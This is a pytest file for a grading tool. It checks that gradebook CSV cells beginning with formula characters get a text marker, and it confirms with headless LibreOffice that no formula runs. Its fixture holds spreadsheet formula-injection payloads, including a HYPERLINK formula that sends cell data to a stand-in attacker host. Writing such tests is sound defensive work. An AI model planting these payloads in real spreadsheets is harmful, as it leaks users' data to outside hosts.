"""gradebook.csv as a spreadsheet opens it: no cell runs as a formula, names with accents survive.

The real consumer is LibreOffice Calc, headless (Debian's package, which
.ci/run installs): it converts the CSV to a flat OpenDocument file, in
which a formula cell carries a ``table:formula`` attribute.
"""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from click.testing import CliRunner

from grader.classroom.spreadsheet import safe_cell
from grader.cli import cli

GOLDENS = Path(__file__).parent / "goldens"
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
NASTY = {
    "eve": '=HYPERLINK("http://evil.example/?x="&A1,"Eve")',
    "pat": "+1+2",
    "max": "-3+4",
    "sam": "@SUM(1,2)",
    "tab": "\t=1+1",
    "ret": "\r=1+1",
    "spc": "  =1+1",
}


@pytest.mark.parametrize("text", NASTY.values())
def test_every_formula_start_gets_a_text_marker(text: str):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Zoë Müller", "ada", "30", "", "O'Brien", "a=b"])
def test_ordinary_cells_are_untouched(text: str):
    assert safe_cell(text) == text


def _class(tmp_path: Path) -> tuple[Path, Path]:
    download = tmp_path / "download"
    for learner in ["zoe", *NASTY]:
        (download / learner).mkdir(parents=True)
        shutil.copy(GOLDENS / "no-failure.json", download / learner / "run.json")
    roster = tmp_path / "roster.csv"
    with roster.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["learner", "name"])
        writer.writerow(["zoe", "Zoë Müller"])
        writer.writerows(NASTY.items())
    return download, roster


def test_gradebook_csv_cells_are_written_safe(tmp_path: Path):
    download, roster = _class(tmp_path)
    out = tmp_path / "out"
    result = CliRunner().invoke(cli, ["batch", "--submissions", str(download), "--roster", str(roster),
                                      "--out", str(out), "-q", "--no-replay"])
    assert result.exit_code == 0, result.output
    data = (out / "gradebook.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only after a byte-order mark
    with (out / "gradebook.csv").open(newline="", encoding="utf-8-sig") as f:
        names = {row["learner"]: row["name"] for row in csv.DictReader(f)}
    assert names["zoe"] == "Zoë Müller"
    assert {k: v for k, v in names.items() if k != "zoe"} == {k: "'" + v for k, v in NASTY.items()}


def _soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        if os.environ.get("CI"):
            pytest.fail("LibreOffice is not installed, and CI must run the spreadsheet test: "
                        "apt-get install libreoffice-calc-nogui (.ci/run does)")
        pytest.skip("no soffice on PATH (apt-get install libreoffice-calc-nogui); the test runs in CI")
    return found


def _open_in_calc(soffice: str, csv_files: list[Path], out: Path, profile: Path) -> dict[str, ET.Element]:
    """Each CSV as LibreOffice Calc reads it (comma, double quote, UTF-8), saved as flat ODS XML."""
    subprocess.run(
        [soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore",
         # 44 = comma, 34 = double quote, 76 = UTF-8 (what its import dialog would ask), from line 1.
         "--infilter=CSV:44,34,76,1", "--convert-to", "fods", "--outdir", str(out), *map(str, csv_files)],
        check=True, capture_output=True, timeout=300)
    return {p.stem: ET.parse(out / f"{p.stem}.fods").getroot() for p in csv_files}


def _formulas(document: ET.Element) -> list[str]:
    return [c.get(f"{{{TABLE}}}formula") for c in document.iter(f"{{{TABLE}}}table-cell")
            if c.get(f"{{{TABLE}}}formula")]


def _texts(document: ET.Element) -> list[str]:
    return ["".join(p.itertext()) for p in document.iter("{urn:oasis:names:tc:opendocument:xmlns:text:1.0}p")]


@pytest.mark.slow
def test_libreoffice_finds_no_formula_in_the_gradebook(tmp_path: Path):
    soffice = _soffice()
    download, roster = _class(tmp_path)
    out = tmp_path / "out"
    result = CliRunner().invoke(cli, ["batch", "--submissions", str(download), "--roster", str(roster),
                                      "--out", str(out), "-q", "--no-replay"])
    assert result.exit_code == 0, result.output
    # The control: the same cells written raw, to show this Calc really runs formulas from a CSV.
    raw = tmp_path / "raw.csv"
    with raw.open("w", newline="", encoding="utf-8-sig") as f:
        csv.writer(f).writerows([["learner", "name"], *NASTY.items()])
    opened = _open_in_calc(soffice, [out / "gradebook.csv", raw], tmp_path / "calc", tmp_path / "profile")
    assert _formulas(opened["raw"]), "LibreOffice ran no formula even from the raw file: the check proves nothing"
    assert _formulas(opened["gradebook"]) == []
    texts = _texts(opened["gradebook"])
    assert "Zoë Müller" in texts
    assert "'" + NASTY["eve"] in texts
